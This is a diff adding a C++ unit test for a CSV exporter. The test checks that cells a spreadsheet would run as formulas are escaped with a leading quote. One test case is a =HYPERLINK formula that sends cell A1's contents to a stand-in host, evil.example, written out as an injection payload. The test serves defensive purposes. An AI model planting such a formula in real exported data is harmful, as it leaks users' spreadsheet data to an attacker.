@@ -296,5 +296,43 @@ TEST(RecordExport, CsvReadsBackAsTheRecordAndJsonLinesAreItsBytes) {
     EXPECT_EQ(rows[2][0], "") << "missing keys are empty";
 }
 
+// What a spreadsheet would run is quoted with "'"; numbers, other texts and ?exact=1 as
+// they are.
+TEST(RecordExport, CellsASpreadsheetWouldRunAsAFormulaAreShownAsText) {
+    const std::string hyperlink = R"(=HYPERLINK("http://evil.example/?"&A1,"U-1"))";
+    const struct {
+        JsonValue value;
+        std::string safe, exact;
+    } cases[] = {
+        {hyperlink, "'" + hyperlink, hyperlink},
+        {"+1", "'+1", "+1"},
+        {"-1.5", "'-1.5", "-1.5"}, // a text, though it looks like a number
+        {"@SUM(A1)", "'@SUM(A1)", "@SUM(A1)"},
+        {"\tx", "'\tx", "\tx"},
+        {"\rx", "'\rx", "\rx"},
+        {"\xc3\xa9=1", "\xc3\xa9=1", "\xc3\xa9=1"}, // only the first character counts
+        {" =1", " =1", " =1"},
+        {"U-1", "U-1", "U-1"},
+        {"", "", ""},
+        {-1.5, "-1.5", "-1.5"}, // a number of the line: never a formula, and it adds up
+        {-1, "-1", "-1"},
+        {nullptr, "", ""},
+        {"=Pr\xc3\x83\xc2\xbc", "'=Pr\xc3\xbc", "=Pr\xc3\xbc"}, // a name written as its bytes
+        {"V\xc2\xb5", "V\xc2\xb5", "V\xc2\xb5"},                // a meter's byte B5, not UTF-8
+    };
+    for (const auto& c : cases) {
+        EXPECT_EQ(csvCell(c.value, CsvCells::Safe), c.safe) << jsonLine(c.value);
+        EXPECT_EQ(csvCell(c.value, CsvCells::Exact), c.exact) << jsonLine(c.value);
+    }
+    // The row the database's export writes goes through the same cells.
+    const std::string line = R"({"schema":1,"unit_id":"=1+1","duration_s":-2.5,"result":"ok"})";
+    std::string safe, exact;
+    appendRecordCsvRow(line, safe);
+    appendRecordCsvRow(line, exact, CsvCells::Exact);
+    EXPECT_NE(safe.find(",'=1+1,ok,"), std::string::npos) << safe;
+    EXPECT_NE(safe.find(",-2.5,"), std::string::npos) << safe;
+    EXPECT_NE(exact.find(",=1+1,ok,"), std::string::npos) << exact;
+}
+
 } // namespace
 } // namespace pxr7
